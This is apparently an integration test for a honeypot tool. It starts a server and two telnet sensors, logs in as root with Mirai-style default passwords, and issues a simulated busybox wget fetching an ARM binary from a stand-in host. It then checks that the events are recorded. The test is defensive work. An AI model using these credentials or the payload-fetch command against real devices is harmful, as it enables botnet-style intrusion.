/**
 * The sensor beside a running server: `honeypot run` delivers through POST /honeypot/events (the
 * server holds the stores), and `honeypot ship` delivers a --no-ship sensor's spool the same way.
 */
import type { ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { openStores } from '../../src/store/open-stores.js';
import { TelnetClient } from '../../src/honeypot/sensor/testing/telnet-client.js';
import { runCli, startCli } from '../helpers/cli.js';
import { stopServer } from '../helpers/serve.js';

const dir = mkdtempSync(join(tmpdir(), 'sakimori-sensor-beside-'));
const data = join(dir, 'data');
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function ports(child: ChildProcess): Promise<{ telnet: number }> {
  return new Promise((resolve, reject) => {
    let out = '';
    child.stdout?.on('data', (d: Buffer) => { out += d.toString(); const nl = out.indexOf('\n'); if (nl >= 0) resolve(JSON.parse(out.slice(0, nl)) as { telnet: number }); });
    child.once('exit', (code) => reject(new Error(`sensor exited ${code}`)));
  });
}

async function session(port: number, password: string): Promise<void> {
  const c = await TelnetClient.loggedIn(port, 'root', password);
  await c.command('/bin/busybox wget http://192.0.2.99/x.arm7');
  c.send('exit\r\n');
  await new Promise((r) => c.socket.once('close', r));
}

const stopped = (c: ChildProcess): Promise<number | null> => { c.kill('SIGTERM'); return new Promise((r) => c.once('exit', (code) => r(code))); };

describe('the sensor beside a running server', () => {
  it('delivers through the server, running and by `honeypot ship`', async () => {
    const server = startCli(['serve', '--data', data, '--port', '0', '--host', '127.0.0.1', '--log-level', 'warn']);
    try {
      await new Promise<void>((resolve, reject) => {
        let out = '';
        server.stdout?.on('data', (d: Buffer) => { out += d.toString(); if (/http:\/\/127\.0\.0\.1:\d+\//.test(out)) resolve(); });
        server.once('exit', (code) => reject(new Error(`serve exited ${code}: ${out}`)));
      });
      const live = startCli(['honeypot', 'run', '--telnet', '127.0.0.1:0', '--data', data, '--name', 'live', '--reject-valid', '0']);
      await session((await ports(live)).telnet, 'xc3511');
      expect(await stopped(live)).toBe(0);

      const spool = join(dir, 'spool-later');
      const later = startCli(['honeypot', 'run', '--telnet', '127.0.0.1:0', '--data', data, '--name', 'later', '--no-ship', '--spool', spool, '--reject-valid', '0']);
      await session((await ports(later)).telnet, 'vizxv');
      expect(await stopped(later)).toBe(0);
      const ship = await runCli(['honeypot', 'ship', '--spool', spool, '--json', '--data', data]);
      expect(ship.code, ship.stderr).toBe(0);
      expect(JSON.parse(ship.stdout)).toMatchObject({ events: 6, skipped: 0, filesDone: 1 });
    } finally {
      await stopServer(server);
    }
    const stores = await openStores({ dataDir: data });
    try {
      const rows = await stores.events.query<{ sensor: string; kind: string; n: string }>(
        "SELECT sensor, kind, toString(count()) AS n FROM honeypot_events WHERE kind IN ('login', 'download') GROUP BY sensor, kind ORDER BY sensor, kind");
      expect(rows).toEqual([
        { sensor: 'later', kind: 'download', n: '1' }, { sensor: 'later', kind: 'login', n: '1' },
        { sensor: 'live', kind: 'download', n: '1' }, { sensor: 'live', kind: 'login', n: '1' },
      ]);
    } finally {
      await stores.close();
    }
  }, 300_000);
});
